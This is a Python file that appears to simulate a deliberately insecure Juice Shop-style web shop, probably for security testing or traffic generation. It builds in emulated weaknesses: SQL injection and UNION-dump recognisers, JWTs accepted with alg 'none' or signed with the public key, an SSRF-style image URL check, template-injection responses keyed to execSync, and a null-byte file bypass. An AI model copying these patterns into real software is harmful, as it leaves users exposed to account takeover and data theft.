"""A web shop in the manner of OWASP Juice Shop, without a proxy: Express, finale resources, a single page that sends its token in
Authorization and in a cookie, socket.io polling, unknown paths that answer the page with 200 (and 500 below /api and /rest).
Its known weaknesses are in the answers; nothing of the real application ran. Written without a look at any detector."""
import html, types
from heldout_core import *

PUB = '-----BEGIN RSA PUBLIC KEY-----\nMIGJAoGBAM3CosR73CBNcJsLv5E90NsFt6qN1uziQ484gbOoule8leXHFbyIzPQRozgEpSpiwhr6d2/c0CfZHEJ3m5tV0klxfjfM7oqjRMURnH/rmBjcETQ7qzIISZQ/iptJ3p7Gi78X5ZMhLNtDkUFU9WaGdiEb+SnC39wjErmJSfmGb7i1AgMBAAE=\n-----END RSA PUBLIC KEY-----'
JS, HT = 'application/json; charset=utf-8', 'text/html; charset=utf-8'
FRUIT = 'Apple Orange Lemon Raspberry Eggfruit Carrot Banana Melon Quince Pear Grape Cherry Mango Papaya Guava Lychee Plum Kiwi Fig Currant Pomelo Elder Rhubarb Beet'.split()
FORM = ('Juice (1000ml)', 'Juice (500ml)', 'Pomace', 'Smoothie')
QUESTIONS = ['Your eldest siblings middle name?', "Mother's maiden name?", 'Name of your favorite pet?', "Mother's birth date? (MM/DD/YY)", 'Your favorite book?', 'Your favorite movie?', 'Company you first work for as an adult?']
PETS = 'rex luna bella max milo coco daisy rocky buddy nala simba oscar leo toby zoe ruby lucky shadow tiger felix garfield snoopy balu susi bruno minka lilly kitty mimi pluto'.split()
Z85 = '0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ.-:+=^!/*?&<>()[]{}@%$#'
MOBILE = ('JuiceMobile/3.4.0 (Android 14) okhttp/4.12.0', 'JuiceMobile/3.4.0 (iPhone; iOS 17.4) CFNetwork/1494.0.7')
MOBILE2 = tuple(x.replace('3.4.0', '3.5.0') for x in MOBILE)
BROWSERS = WEB + ['Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67']
ASSETS = {'/main.js': 9000, '/vendor.js': 14000, '/polyfills.js': 3000, '/runtime.js': 1200, '/styles.css': 5000, '/assets/public/images/JuiceShop_Logo.png': 4200, '/assets/public/favicon_js.ico': 1100, '/assets/i18n/en.json': 6000}
CFG = dict(server={'port': 3000}, application=dict(domain='juice.example', name='Juice Shop', logo='JuiceShop_Logo.png', favicon='favicon_js.ico', theme='bluegrey-lightgreen', showVersionNumber=True, localBackupEnabled=True, welcomeBanner=dict(showOnFirstStart=True, title='Welcome!'), cookieConsent=dict(message='This website uses fruit cookies', dismissText='Me want it!'), chatBot=dict(name='Juicy', avatar='JuicyChatBot.png'), recyclePage=dict(topProductImage='fruit_press.jpg')))


def iso(t):
    return time.strftime('%Y-%m-%dT%H:%M:%S', time.gmtime(t)) + f'.{int(t * 1000) % 1000:03}Z'


def z85(b):
    o = ''
    for i in range(0, len(b), 4):
        n, p = int.from_bytes(b[i:i + 4], 'big'), ''
        for _ in range(5):
            p, n = Z85[n % 85] + p, n // 85
        o += p
    return o


def unz85(c):
    try:
        if len(c) % 5:
            return ''
        o = b''
        for i in range(0, len(c), 5):
            n = 0
            for x in c[i:i + 5]:
                n = n * 85 + Z85.index(x)
            o += n.to_bytes(4, 'big')
        return o.decode()
    except (ValueError, OverflowError):
        return ''


def ok(d):
    return 200, {'status': 'success', 'data': d}


def md5(x):
    return hashlib.md5(str(x).encode()).hexdigest()


def mask(e):
    return re.sub('[aeiou]', '*', e)


class Juice(App):
    base_lat = .014

    def __init__(s, rng, attacks, st, out):
        super().__init__(rng)
        s.attacks, s.st, s.release = attacks, st, st + 6 * DAY + 5 * HOUR
        s.down = out
        s.users, s.by_mail, s.issued, s.static = {}, {}, {}, {}
        s.products, s.qty, s.reviews, s.orders, s.feedback, s.captcha = {}, {}, {}, {}, {}, {}
        s.baskets, s.items, s.cards, s.addr, s.wallet, s.memories = {}, {}, {}, {}, {}, []
        s.n = Counter(item=840, card=60, addr=90, captcha=300, complaint=20, recycle=14)
        s.ftp = {'acquisitions.md': b'# Planned Acquisitions\n\n> This document is confidential! Do not distribute!\n\nOur company plans to acquire several competitors within the next year.\n', 'announcement_encrypted.md': b'1352271\n9243512\n' * 30, 'coupons_2013.md.bak': b'n<MibgC7sn\nmNYS#gC7sn\no*IVigC7sn\nk#pDlgC7sn\n', 'eastere.gg': b'"Congratulations, you found the easter egg!"\n', 'encrypt.pyc': rng.randbytes(500), 'incident-support.kdbx': rng.randbytes(3000), 'legal.md': b'# Legal Information\n\nLorem ipsum dolor sit amet, consetetur sadipscing elitr.\n' * 10, 'package.json.bak': b'{ "name": "juice-shop", "version": "6.2.0-SNAPSHOT", "dependencies": { "epilogue-js": "~0.7", "express-jwt": "0.1.3", "sanitize-html": "1.4.2" } }\n', 'suspicious_errors.yml': b'title: Suspicious error messages specific to the application\n'}
        for f in [f'{a} {b}' for b in FORM for a in FRUIT]:
            i = len(s.products) + 1
            s.products[i] = dict(id=i, name=f, description=f'{" ".join(rng.choices(WORDS, k=rng.randint(4, 9)))}.', price=rng.randint(89, 1999) / 100, deluxePrice=0, image=f'{f.split()[0].lower()}_{i}.jpg', createdAt=iso(st - 40 * DAY), updatedAt=iso(st - 40 * DAY), deletedAt=None)
            s.products[i]['deluxePrice'] = s.products[i]['price']
            s.qty[i] = dict(ProductId=i, id=i, quantity=rng.randint(200, 900), limitPerUser=rng.choice([None, None, None, 5]), createdAt=iso(st - 40 * DAY), updatedAt=iso(st - 40 * DAY))
        s.products[12].update(name='Melon Bike (Comeback-Product 2026 Edition)', price=299.9)
        s.keys, s.likes, s.b2b_orders = {}, {}, {}

    # --- state
    def user(s, mail=None, role='customer', pw=None, basket=True, now=None, totp=False):
        r, i = s.rng, len(s.users) + 1
        mail = mail or f'{r.choice(FIRST)}.{r.choice(LAST)}{i}@{r.choice(["post.example", "mail.example", "web.example"])}'
        u = dict(id=i, email=mail, pw=pw or f'{r.choice(WORDS)}{r.randint(10, 9999)}', role=role, username='', totp=totp, q=r.randint(0, 6), answer=r.choice(PETS), ip='0.0.0.0', img='/assets/public/images/uploads/default.svg', at=now or s.st - r.randint(2, 200) * DAY, bid=None, deluxe='')
        s.users[i] = s.by_mail[mail] = u
        s.wallet[i] = 0
        if basket:
            s.basket_of(u, u['at'])
        return u

    def basket_of(s, u, now):
        if not u['bid']:
            u['bid'] = len(s.baskets) + 1
            s.baskets[u['bid']] = dict(id=u['bid'], coupon=None, UserId=u['id'], createdAt=iso(now), updatedAt=iso(now))
        return u['bid']

    def totp(s, u, t):
        return f'{int(md5(str(u["id"]) + u["email"] + str(int(t / 30)))[:8], 16) % 10**6:06}'

    def pub(s, u):
        return dict(id=u['id'], username=u['username'], email=u['email'], role=u['role'], deluxeToken=u['deluxe'], lastLoginIp=u['ip'], profileImage=u['img'], isActive=True, createdAt=iso(u['at']), updatedAt=iso(u['at']), deletedAt=None)

    def claims(s, u, now):
        d = s.pub(u)
        d['password'], d['totpSecret'] = md5(u['pw']), 'IFTXE3SPOEYVURT2' if u['totp'] else ''
        return dict(status='success', data=d, iat=int(now), exp=int(now) + 6 * HOUR)

    def sign(s, c):
        p = b64(b'{"typ":"JWT","alg":"RS256"}') + '.' + b64(json.dumps(c, separators=(',', ':')).encode())
        h = hmac.new(b'juice-rsa', p.encode(), hashlib.sha512).digest()
        return p + '.' + b64(h + hashlib.sha512(h).digest())

    def token(s, u, now):
        c = s.claims(u, now)
        t = s.sign(c)
        s.issued[t] = c
        return t

    def grant(s, u, now):
        return Rs(200, {'authentication': {'token': s.token(u, now), 'bid': s.basket_of(u, now), 'umail': u['email']}}, lat=.03)

    def read_token(s, t, now):
        if t in s.issued:
            c = s.issued[t]
            return (c, None) if c['exp'] > now else (None, 'jwt expired')
        p = t.split('.')
        if len(p) != 3:
            return None, 'jwt malformed'
        try:
            hd, c = (json.loads(base64.urlsafe_b64decode(x + '===')) for x in p[:2])
            alg = str(hd['alg']).lower()
            c['data']['id']
        except (ValueError, KeyError, TypeError):
            return None, 'invalid token'
        good = alg == 'none' or alg == 'hs256' and p[2] == b64(hmac.new(PUB.encode(), f'{p[0]}.{p[1]}'.encode(), hashlib.sha256).digest())
        return (c, None) if good else (None, 'invalid signature')

    # --- the frame of Express
    def error(s, rq, st, msg, **k):
        name = k.pop('name', 'Error')
        stack = f'{name}: {msg}\n    at /juice-shop/build/routes/angular.js:18:18\n    at Layer.handle [as handle_request] (/juice-shop/node_modules/express/lib/router/layer.js:95:5)\n    at trim_prefix (/juice-shop/node_modules/express/lib/router/index.js:328:13)'
        lat = k.pop('lat', None)
        if rq.h.get('accept', '').startswith('application/json'):
            return Rs(st, {'error': dict(message=msg, name=name, stack=stack, **k)}, lat=lat)
        return Rs(st, f'<html>\n  <head>\n    <meta charset=\'utf-8\'> \n    <title>{html.escape(name)}: {html.escape(msg)}</title>\n  </head>\n  <body>\n    <div id="wrapper">\n      <h1>OWASP Juice Shop (Express ^4.17.1)</h1>\n      <h2><em>{st}</em> {html.escape(name)}: {html.escape(msg)}</h2>\n      <ul id="stacktrace"><li>{html.escape(stack)}</li></ul>\n    </div>\n  </body>\n</html>', ct=HT, lat=lat)

    def sqlite(s, rq, msg, sql):
        return s.error(rq, 500, f'SQLITE_ERROR: {msg}', errno=1, code='SQLITE_ERROR', sql=sql)

    def page(s, rq):
        return Rs(200, '<!--\n  ~ Copyright (c) 2014-2026 Bjoern Kimminich & the OWASP Juice Shop contributors.\n  ~ SPDX-License-Identifier: MIT\n  -->\n<!doctype html>\n<html lang="en" data-beasties-container>\n<head>\n  <meta charset="utf-8">\n  <title>Juice Shop</title>\n  <meta name="description" content="Probably the most modern and sophisticated insecure web application">\n  <link id="favicon" rel="icon" type="image/x-icon" href="assets/public/favicon_js.ico">\n  <link rel="stylesheet" href="styles.css">\n</head>\n<body class="mat-app-background bluegrey-lightgreen-theme">\n  <app-root></app-root>\n<script src="runtime.js" type="module"></script><script src="polyfills.js" type="module"></script><script src="vendor.js" type="module"></script><script src="main.js" type="module"></script></body>\n</html>\n', ct=HT, lat=.004)

    def not_found(s, rq):
        if rq.path.startswith(('/api', '/rest')):
            return s.error(rq, 500, f'Unexpected path: {rq.path}')
        return s.page(rq)

    def handle(s, rq):
        hit = s.find(rq.m, rq.path)
        tpl = hit[0] if hit else rq.path
        tpl = rq.path if tpl == '/{f}' else tpl
        rq.u = rq.c = rq.why = None
        a = rq.h.get('authorization', '')
        t = a[7:] if a.startswith('Bearer ') else ''
        if t:
            rq.c, rq.why = s.read_token(t, rq.now)
            if rq.c:
                rq.u = s.users.get(rq.c['data']['id'])
                if t in s.issued:
                    rq.user = rq.u['email']
        if rq.path.startswith(('/api', '/rest', '/b2b')) and any(x <= rq.now < y for x, y in s.down) and s.rng.random() < .8:
            r = s.error(rq, 500, 'SQLITE_BUSY: database is locked', errno=5, code='SQLITE_BUSY', lat=1 + s.rng.random())
        elif not hit or not hit[1]:
            r = s.not_found(rq)
        else:
            try:
                r = s.gate(rq, hit[2].get('auth')) or hit[1](rq, *hit[3])
            except (TypeError, AttributeError, ValueError, KeyError, OverflowError):
                if not rq.cl.ep:
                    raise                       # Ordinary clients send what the shop expects.
                r = s.error(rq, 500, "Cannot read properties of undefined (reading 'toString')", name='TypeError')
            if isinstance(r, tuple):
                r = Rs(*r)
        if isinstance(r.body, (dict, list)) and not r.ct:
            r.ct = JS
        r.full = r.body
        h = {'X-Powered-By': None, 'Access-Control-Allow-Origin': '*', 'X-Content-Type-Options': 'nosniff', 'X-Frame-Options': 'SAMEORIGIN', 'Feature-Policy': "payment 'self'", 'X-Recruiting': '/#/jobs'}
        r.tag = None
        if r.st == 200 and r.body and '/socket.io/' not in rq.path:
            b = json.dumps(r.body).encode() if isinstance(r.body, (dict, list)) else r.body.encode() if isinstance(r.body, str) else r.body
            r.tag = h['ETag'] = f'W/"{len(b):x}-{base64.b64encode(hashlib.sha1(b).digest()).decode()[:27]}"'
            h['Vary'] = 'Accept-Encoding'
            if rq.m == 'GET' and rq.h.get('if-none-match') == r.tag:
                r.st, r.body = 304, None
        r.h = {k: v for k, v in {**h, **r.h}.items() if v}
        if r.lat is None:
            r.lat = s.base_lat * s.rng.lognormvariate(0, .5)
        return r, tpl

    def gate(s, rq, need):
        if not need:
            return None
        if need == 'deny' or not rq.c:
            m = rq.why or ('No Authorization header was found' if 'authorization' not in rq.h else 'invalid token')
            return s.error(rq, 401, m, name='UnauthorizedError', code='invalid_token' if rq.why else 'credentials_required', status=401)
        if need in ('accounting', 'admin') and rq.c['data'].get('role') != need:
            return Rs(403, {'error': 'Malicious activity detected'})
        if need == 'own' and not rq.u:
            return s.error(rq, 500, f'Blocked illegal activity by ::ffff:{rq.cl.ip}')

    # --- static, pages, files
    @route('GET', '/')
    def index(s, rq):
        return s.page(rq)

    def blob(s, path, n):
        k = (path, rqv(s, n))
        if k not in s.static:
            r = random.Random(path + str(k[1]))
            s.static[k] = ('"use strict";' + ''.join(f'function {r.choice(WORDS)}{i}(e,t){{return e.{r.choice(WORDS)}(t,{r.getrandbits(40)})}}' for i in range(n // 60))).encode() if path.endswith('.js') else r.randbytes(n) if path.endswith(('png', 'ico', 'jpg')) else (''.join(f'.{r.choice(WORDS)}-{i}{{margin:{r.randint(0, 40)}px}}' for i in range(n // 30))).encode() if path.endswith('css') else json.dumps({f'{r.choice(WORDS).upper()}_{i}': r.choice(WORDS) for i in range(n // 30)}).encode()
        return s.static[k]

    def asset(s, rq, n):
        s.t = rq.now
        p = rq.path
        ct = 'application/javascript; charset=UTF-8' if p.endswith('.js') else 'text/css; charset=UTF-8' if p.endswith('css') else 'application/json; charset=UTF-8' if p.endswith('json') else 'image/x-icon' if p.endswith('ico') else 'image/png' if p.endswith('png') else 'image/jpeg'
        return Rs(200, s.blob(p, n), {'Cache-Control': 'public, max-age=0', 'Accept-Ranges': 'bytes'}, ct=ct, lat=.003)

    @route('GET', '/{f}')
    def top(s, rq, f):
        if '/' + f in ASSETS:
            return s.asset(rq, ASSETS['/' + f])
        if f == 'robots.txt':
            return Rs(200, 'User-agent: *\nDisallow: /ftp', ct='text/plain; charset=utf-8')
        if f == 'metrics':
            r = random.Random(int(rq.now))
            return Rs(200, '# HELP file_uploads_count Total number of successful file uploads grouped by file type.\n# TYPE file_uploads_count counter\n' + ''.join(f'{n}{{app="juiceshop"}} {r.random() * 1e6:.3f}\n' for n in ('process_cpu_user_seconds_total', 'process_resident_memory_bytes', 'nodejs_eventloop_lag_seconds', 'nodejs_heap_size_total_bytes', 'http_requests_count', 'juiceshop_orders_placed_total', 'juiceshop_user_social_interactions', 'juiceshop_wallet_balance_total')) + f'juiceshop_users_registered{{type="standard",app="juiceshop"}} {len(s.users)}\n', ct='text/plain; version=0.0.4; charset=utf-8')
        if f == 'profile':
            if 'token=' not in rq.h.get('cookie', ''):
                return s.error(rq, 500, f'Blocked illegal activity by ::ffff:{rq.cl.ip}')
            u = s.cookie_user(rq)
            if not u:
                return s.error(rq, 500, f'Blocked illegal activity by ::ffff:{rq.cl.ip}')
            n, rq.user = u['username'], u['email']
            n = {'#{1+1}': '2', '#{7*7}': '49'}.get(n) or ('uid=65532(nonroot) gid=65532(nonroot)' if 'execSync' in n else 'root:x:0:0:root:/root:/sbin/nologin' if 'spawnSync' in n else html.escape(n))
            return Rs(200, f'<!DOCTYPE html><html><head><title>Juice Shop</title></head><body><h1>User Profile</h1><img class="img-rounded" src="{html.escape(u["img"])}" width="90%"><p>\\{n}</p><form action="./profile" method="post"><label>Email:</label><input type="email" value="{u["email"]}" disabled><input name="username" value="{n}"></form><form action="./profile/image/url" method="post"><input name="imageUrl"></form></body></html>', ct=HT)
        if f == 'redirect':
            to = rq.q.get('to', '')
            return Rs(302, f'Found. Redirecting to {to}', {'Location': to}, ct='text/plain; charset=utf-8') if 'https://github.com/juice-shop/juice-shop' in to else s.error(rq, 406, f'Unrecognized target URL for redirect: {to}')
        return s.not_found(rq)

    @route('GET', '/assets/public/images/products/{f}')
    def image(s, rq, f):
        return s.asset(rq, 1600)

    @route('GET', '/assets/public/images/{f}')
    def image2(s, rq, f):
        return s.asset(rq, 4200)

    @route('GET', '/assets/public/{f}')
    def image3(s, rq, f):
        return s.asset(rq, 1100)

    @route('GET', '/assets/i18n/{f}')
    def i18n(s, rq, f):
        return s.asset(rq, 6000)

    def listing(s, d, names):
        return Rs(200, f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>listing directory /{d}</title></head><body class="directory"><div id="wrapper"><h1><a href="/">~</a> / <a href="{d}">{d}</a></h1><ul id="files" class="view-tiles">' + ''.join(f'<li><a href="{d}/{n}" class="icon" title="{n}"><span class="name">{n}</span></a></li>' for n in names) + '</ul></div></body></html>', ct=HT)

    @route('GET', '/ftp')
    def ftp_list(s, rq):
        return s.listing('ftp', sorted(s.ftp))

    @route('GET', '/ftp/{f}')
    def ftp_get(s, rq, f):
        if '/' in f:
            return s.error(rq, 403, 'File names cannot contain forward slashes!')
        if not f.endswith(('.md', '.pdf')) and f != 'incident-support.kdbx':
            return s.error(rq, 403, 'Only .md and .pdf files are allowed!')
        if '\0' in f:
            return s.error(rq, 400, 'Bad Request', name='BadRequestError')
        f = unquote(f).split('\0')[0]
        if f not in s.ftp:
            return s.error(rq, 404, f"ENOENT: no such file or directory, stat '/juice-shop/ftp/{f}'", name='NotFoundError')
        return Rs(200, s.ftp[f], ct='application/pdf' if f.endswith('pdf') else 'text/markdown; charset=UTF-8' if f.endswith('md') else 'application/octet-stream')

    @route('GET', '/encryptionkeys')
    def keys_list(s, rq):
        return s.listing('encryptionkeys', ['jwt.pub', 'premium.key'])

    @route('GET', '/encryptionkeys/{f}')
    def keys_get(s, rq, f):
        return Rs(200, PUB, ct='application/octet-stream') if f == 'jwt.pub' else s.page(rq)

    @route('GET', '/support/logs')
    def logs_list(s, rq):
        return s.listing('support/logs', [f'access.log.{iso(s.st + d * DAY)[:10]}' for d in range(int((rq.now - s.st) / DAY) + 1)])

    @route('GET', '/support/logs/{f}')
    def logs_get(s, rq, f):
        r = random.Random(f)
        return Rs(200, ''.join(f'::ffff:198.18.{r.randint(1, 90)}.{r.randint(1, 250)} - - [{f[-10:]}] "GET /rest/basket/{r.randint(1, 150)} HTTP/1.1" 200 {r.randint(150, 900)}\n' for _ in range(60)), ct='application/octet-stream')

    @route('GET', '/api-docs')
    def docs(s, rq):
        return Rs(200, '<!DOCTYPE html><html><head><title>Swagger UI</title></head><body><div id="swagger-ui"></div></body></html>', ct=HT)

    @route('GET', '/socket.io')
    def sio(s, rq):
        if 'sid' not in rq.q:
            return Rs(200, '0' + json.dumps(dict(sid=b64(s.rng.randbytes(15)), upgrades=['websocket'], pingInterval=25000, pingTimeout=20000, maxPayload=1000000), separators=(',', ':')), ct='text/plain; charset=UTF-8', lat=.003)
        return Rs(200, '40' + json.dumps(dict(sid=b64(s.rng.randbytes(15))), separators=(',', ':')), ct='text/plain; charset=UTF-8', lat=.003)

    @route('POST', '/socket.io')
    def sio_post(s, rq):
        return Rs(200, 'ok', ct='text/html', lat=.003)

    # --- accounts
    @route('POST', '/rest/user/login')
    def login(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        e, p = str(j.get('email', '')), str(j.get('password', ''))
        u = s.by_mail.get(e)
        if "'" in e:
            m = re.match(r"(.*?)'\s*(?:or\s+(?:1=1|true|'1'='1).*?)?(?:--|/\*|;--)", e, re.I)
            if not m and e.count("'") % 2 == 0:
                return Rs(401, 'Invalid email or password.', ct=HT, lat=.02)
            if not m:
                return s.sqlite(rq, 'unrecognized token: "' + md5(p) + '"', f"SELECT * FROM Users WHERE email = '{e}' AND password = '{md5(p)}' AND deletedAt IS NULL")
            u = s.users[1] if re.search(r'\bor\b', e, re.I) else s.by_mail.get(m.group(1))
            p = u and u['pw']
        if not u or u['pw'] != p:
            return Rs(401, 'Invalid email or password.', ct=HT, lat=.02)
        if u['totp']:
            return Rs(401, {'status': 'totp_token_required', 'data': {'tmpToken': s.sign(dict(userId=u['id'], type='password_valid_needs_second_factor_token', iat=int(rq.now)))}})
        u['ip'] = rq.cl.ip
        return s.grant(u, rq.now)

    @route('POST', '/rest/2fa/verify')
    def verify2(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        try:
            c = json.loads(base64.urlsafe_b64decode(str(j.get('tmpToken')).split('.')[1] + '=='))
            u = s.users[c['userId']]
        except (ValueError, KeyError, IndexError, TypeError):
            return Rs(401, '', lat=.01)
        return s.grant(u, rq.now) if j.get('totpToken') == s.totp(u, rq.now) else Rs(401, None)

    @route('GET', '/rest/2fa/status', auth='user')
    def status2(s, rq):
        u = rq.u
        return (200, dict(setup=True)) if u and u['totp'] else (200, dict(setup=False, secret='IFTXE3SPOEYVURT2', email=u and u['email'], setupToken=b64(s.rng.randbytes(30))))

    @route('GET', '/rest/user/whoami')
    def whoami(s, rq):
        u = rq.u
        return 200, {'user': dict(id=u['id'], email=u['email'], lastLoginIp=u['ip'], profileImage=u['img']) if u else {}}

    @route('GET', '/rest/user/change-password')
    def change(s, rq):
        q = rq.q
        if not q.get('new') or q.get('new') != q.get('repeat'):
            return Rs(401, 'New and repeated password do not match.' if q.get('new') else 'Password cannot be empty.', ct=HT)
        if not rq.u:
            return s.error(rq, 500, f'Blocked illegal activity by ::ffff:{rq.cl.ip}')
        if q.get('current') and q['current'] != rq.u['pw']:
            return Rs(401, 'Current password is not correct.', ct=HT)
        rq.u['pw'] = q['new']
        return 200, {'user': dict(s.pub(rq.u), password=md5(q['new']), totpSecret='')}

    @route('GET', '/rest/user/security-question')
    def secq(s, rq):
        u = s.by_mail.get(rq.q.get('email', ''))
        return 200, ({'question': dict(id=u['q'] + 1, question=QUESTIONS[u['q']], createdAt=iso(s.st - 200 * DAY), updatedAt=iso(s.st - 200 * DAY))} if u else {})

    @route('POST', '/rest/user/reset-password')
    def reset(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        k = rq.h.get('x-forwarded-for', rq.cl.ip)
        s.hits = [x for x in getattr(s, 'hits', []) if x[1] > rq.now - 300] + [(k, rq.now)]
        n = sum(x[0] == k for x in s.hits)
        lim = {'X-RateLimit-Limit': '100', 'X-RateLimit-Remaining': str(max(0, 100 - n))}
        if n > 100:
            return Rs(429, 'Too many requests, please try again later.', lim, ct=HT)
        u = s.by_mail.get(str(j.get('email')))
        if not u or u['answer'] != j.get('answer'):
            return Rs(401, 'Wrong answer to security question.', lim, ct=HT)
        u['pw'] = str(j.get('new'))
        return Rs(200, {'user': dict(s.pub(u), password=md5(u['pw']), totpSecret='')}, lim)

    @route('GET', '/rest/user/authentication-details', auth='user')
    def auth_details(s, rq):
        return ok([dict(s.pub(u), password='*' * 32, totpSecret='', lastLoginTime=int(rq.now)) for u in s.users.values()])

    @route('GET', '/api/SecurityQuestions')
    def questions(s, rq):
        return ok([dict(id=i + 1, question=q, createdAt=iso(s.st - 200 * DAY), updatedAt=iso(s.st - 200 * DAY)) for i, q in enumerate(QUESTIONS)])

    @route('POST', '/api/SecurityAnswers')
    def answers(s, rq):
        j = rq.json
        u = s.users.get(j.get('UserId'))
        if not u:
            return 400, {'message': 'Validation error', 'errors': [{'field': 'UserId', 'message': 'UserId cannot be null'}]}
        u['q'], u['answer'] = int(j.get('SecurityQuestionId') or 1) - 1, str(j.get('answer'))
        return 201, {'status': 'success', 'data': dict(id=u['id'], UserId=u['id'], answer=hmac.new(b'07-92-75-2C-DB-D3', u['answer'].encode(), hashlib.sha256).hexdigest(), SecurityQuestionId=u['q'] + 1, updatedAt=iso(rq.now), createdAt=iso(rq.now))}

    @route('POST', '/api/Users')
    def register(s, rq):
        j = rq.json if isinstance(rq.json, dict) else {}
        e = j.get('email')
        if not isinstance(e, str) or not j.get('password'):
            return 400, {'error': 'Invalid email/password cannot be empty'}
        if e in s.by_mail:
            return 400, {'message': 'Validation error', 'errors': [{'field': 'email', 'message': 'email must be unique'}]}
        role = j.get('role', 'customer')
        if role not in ('customer', 'deluxe', 'accounting', 'admin'):
            return 400, {'message': 'Validation error', 'errors': [{'field': 'role', 'message': 'Validation isIn on role failed'}]}
        u = s.user(e, role, str(j['password']), False, rq.now)
        return Rs(201, {'status': 'success', 'data': s.pub(u)}, {'Location': f'/api/Users/{u["id"]}'})

    @route('GET', '/api/Users', auth='user')
    def users_list(s, rq):
        return ok([s.pub(u) for u in s.users.values()])

    @route('GET', '/api/Users/{id}', auth='user')
    def user_get(s, rq, i):
        return ok(s.pub(s.users[int(i)])) if i.isdigit() and int(i) in s.users else (404, {'message': 'Not found', 'errors': []})

    @route('PUT', '/api/Users/{id}', auth='deny')
    def user_put(s, rq, i):
        pass

    @route('DELETE', '/api/Users/{id}', auth='deny')
    def user_del(s, rq, i):
        pass

    @route('GET', '/rest/saveLoginIp', auth='user')
    def save_ip(s, rq):
        if rq.u:
            rq.u['ip'] = rq.h.get('true-client-ip', rq.cl.ip)
            return 200, dict(s.pub(rq.u), password=md5(rq.u['pw']))
        return Rs(401, None)

    def cookie_user(s, rq):
        m = re.search(r'token=([\w.-]+)', rq.h.get('cookie', ''))
        c = m and s.read_token(m.group(1), rq.now)[0]
        return s.users.get(c['data']['id']) if c else None

    @route('POST', '/profile')
    def profile(s, rq):
        u = s.cookie_user(rq)
        if not u:
            return s.error(rq, 500, f'Blocked illegal activity by ::ffff:{rq.cl.ip}')
        u['username'], rq.user = rq.form.get('username', '')[:120], u['email']
        return Rs(302, 'Found. Redirecting to /profile', {'Location': '/profile'}, ct=HT)

    @route('POST', '/profile/image/url')
    def image_url(s, rq):
        u = s.cookie_user(rq)
        if not u:
            return s.error(rq, 500, f'Blocked illegal activity by ::ffff:{rq.cl.ip}')
        x, rq.user = rq.form.get('imageUrl', ''), u['email']
        u['img'] = x if re.search('169.254|127.0|localhost|10\\.|\\[', x) else f'/assets/public/images/uploads/{u["id"]}.jpg'
        return Rs(302, 'Found. Redirecting to /profile', {'Location': '/profile'}, ct=HT, lat=.2 + s.rng.random() * .4)

    # --- products
    def plist(s, ps):
        return ok(ps)

    @route('GET', '/rest/products/search')
    def search(s, rq):
        q = rq.q.get('q', '')
        q = '' if q == 'undefined' else q[:200]
        all_ = list(s.products.values())
        if "'" in q:
            sql = f"SELECT * FROM Products WHERE ((name LIKE '%{q}%' OR description LIKE '%{q}%') AND deletedAt IS NULL) ORDER BY name"
            l = q.lower()
            m = re.search(r'union(?: all)? select (.*?)(?: from (\w+).*)?--', l)
            if m and "'))" in q:
                cols = [c.strip() for c in m.group(1).split(',')]
                if len(cols) != 9:
                    return s.sqlite(rq, 'SELECTs to the left and right of UNION do not have the same number of result columns', sql)
                names = ('id', 'name', 'description', 'price', 'deluxePrice', 'image', 'createdAt', 'updatedAt', 'deletedAt')
                rows = [{}]
                if m.group(2) == 'users':
                    rows = [dict(u, password=md5(u['pw']), deluxetoken=u['deluxe']) for u in s.users.values()]
                elif m.group(2) == 'sqlite_master':
                    rows = [{'sql': f'CREATE TABLE `{t}` (`id` INTEGER PRIMARY KEY AUTOINCREMENT, `createdAt` DATETIME NOT NULL, `updatedAt` DATETIME NOT NULL)'} for t in ('Users', 'Baskets', 'Cards', 'Addresses', 'Feedbacks', 'Products', 'BasketItems', 'Wallets', 'Memories')]
                elif m.group(2):
                    return s.sqlite(rq, f'no such table: {m.group(2)}', sql)
                return ok([dict(zip(names, [r.get(c, int(c) if c.isdigit() else None if c == 'null' else c.strip("'")) for c in cols])) for r in rows])
            m = re.search(r'order by (\d+)', l)
            if m and "'))" in q and int(m.group(1)) > 9:
                return s.sqlite(rq, f'1st ORDER BY term out of range - should be between 1 and 9', sql)
            if "'))" in q and '--' in q:
                m = re.search(r'(?:and|or) (\d+)=(\d+)', l)
                if 'randomblob' in l:
                    return Rs(200, {'status': 'success', 'data': []}, lat=2 + s.rng.random() * 3)
                return s.plist(all_ if not m or m.group(1) == m.group(2) else [])
            w = re.search(r"'+\s*(\w+|.)?", q).group(1) or '%'
            if q.count("'") % 2:
                return s.sqlite(rq, f'near "{w}": syntax error', sql)
            return s.sqlite(rq, f'near "{w}": syntax error', sql) if "''" not in q else ok([])
        w = q.lower()
        return s.plist([p for p in all_ if w in p['name'].lower() or w in p['description'].lower()] if w else all_)

    def pid(s, i):
        return int(i) if i.isdigit() and int(i) in s.products else None

    @route('GET', '/api/Products')
    def products_list(s, rq):
        return ok(list(s.products.values()))

    @route('GET', '/api/Products/{id}')
    def product(s, rq, i):
        return ok(s.products[int(i)]) if s.pid(i) else (404, {'message': 'Not found', 'errors': []})

    @route('PUT', '/api/Products/{id}')
    def product_put(s, rq, i):
        if not s.pid(i):
            return 404, {'message': 'Not found', 'errors': []}
        s.products[int(i)].update({k: v for k, v in rq.json.items() if k in ('name', 'description', 'price', 'image')}, updatedAt=iso(rq.now))
        return ok(s.products[int(i)])

    @route('POST', '/api/Products', auth='user')
    def product_post(s, rq):
        return 400, {'message': 'Validation error', 'errors': [{'field': 'name', 'message': 'name cannot be null'}]}

    @route('DELETE', '/api/Products/{id}', auth='deny')
    def product_del(s, rq, i):
        pass

    @route('GET', '/api/Quantitys')
    def quantitys(s, rq):
        return ok(list(s.qty.values()))

    @route('PUT', '/api/Quantitys/{id}', auth='accounting')
    def quantity_put(s, rq, i):
        if not s.pid(i):
            return 404, {'message': 'Not found', 'errors': []}
